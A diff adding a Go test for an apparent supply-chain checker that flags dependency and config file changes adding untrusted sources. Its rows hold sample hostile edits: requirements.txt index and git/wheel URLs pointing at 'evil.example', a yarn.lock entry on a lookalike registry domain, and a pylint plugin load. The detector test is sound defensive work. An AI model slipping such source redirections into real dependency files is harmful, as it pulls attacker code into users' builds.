@@ -156,3 +156,32 @@ func TestEveryNameThatRunsCode(t *testing.T) {
 }
 
 func fsMode(m int) os.FileMode { return os.FileMode(m) }
+
+// TestContentChecks: the content-aware rows flag what adds a source and
+// leave everyday changes alone.
+func TestContentChecks(t *testing.T) {
+	for _, tc := range []struct {
+		path, old, new string
+		flagged        bool
+	}{
+		{"requirements.txt", "a==1\n", "a==1\n    --hash=sha256:abc\n", false},
+		{"requirements.txt", "a==1\n", "a==2\n--only-binary :all:\n-r base.txt\n", false},
+		{"requirements.txt", "a==1\n", "--extra-index-url=https://evil.example/simple\na==1\n", true},
+		{"requirements.txt", "a==1\n", "-i https://evil.example/simple\na==1\n", true},
+		{"requirements.txt", "a==1\n", "a==1\ngit+https://evil.example/x.git#egg=x\n", true},
+		{"requirements.txt", "a==1\n", "a==1\nx @ https://evil.example/x.whl\n", true},
+		{"requirements.txt", "a==1\n", "a==1\n./vendor/x\n", true},
+		{"yarn.lock", "", "x@^1:\n  resolved \"https://registry.yarnpkg.com/x/-/x-1.tgz#a\"\n", false},
+		{"yarn.lock", "", "x@^1:\n  resolved \"https://registry.yarnpkg.com.evil.example/x.tgz#a\"\n", true},
+		{"package-lock.json", "", "\"resolved\": \"../local\",\n", true},
+		{"package-lock.json", "", "\"resolved\": \"https://registry.npmjs.org/x/-/x-1.tgz\",\n", false},
+		{"poetry.lock", "", "[package.source]\ntype = \"git\"\nurl = \"https://evil.example/x\"\n", true},
+		{".pylintrc", "", "[MAIN]\nload-plugins = evil\n", true},
+		{"pylintrc", "[MAIN]\n", "[MAIN]\njobs = 4\n", false},
+	} {
+		why, ok := contentRisk(tc.path, []byte(tc.old), []byte(tc.new))
+		if !ok || (why != "") != tc.flagged {
+			t.Errorf("%s %q -> %q: %q (row %v), want flagged %v", tc.path, tc.old, tc.new, why, ok, tc.flagged)
+		}
+	}
+}
